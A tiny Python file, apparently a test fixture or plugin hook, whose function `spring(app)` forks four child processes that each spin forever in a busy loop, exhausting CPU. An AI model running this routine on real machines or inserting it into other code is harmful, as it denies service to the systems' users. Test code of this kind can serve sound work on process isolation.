import os


def spring(app):
    for _ in range(4):
        if os.fork() == 0:
            while True:
                pass
